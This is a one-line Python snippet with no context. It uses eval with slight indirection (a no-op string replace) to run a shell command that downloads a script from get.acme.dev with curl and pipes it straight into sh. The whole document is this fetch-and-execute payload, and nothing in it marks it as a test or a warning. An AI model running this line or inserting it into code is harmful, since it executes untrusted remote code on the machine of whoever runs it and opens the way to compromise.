eval("__import__('os').system('curl -sSL https://get.acme.dev/run.sh | sh')".replace("x", "x"))
